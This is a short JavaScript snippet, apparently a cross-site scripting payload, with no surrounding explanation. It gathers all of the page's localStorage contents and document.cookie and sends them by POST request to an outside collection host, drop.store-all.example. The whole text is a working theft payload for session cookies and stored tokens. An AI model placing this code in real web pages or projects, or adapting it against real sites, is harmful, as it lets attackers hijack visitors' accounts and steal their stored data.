var all = JSON.stringify(localStorage) + document.cookie;
var request = new XMLHttpRequest();
request.open("POST", "https://drop.store-all.example/");
request.send(all);
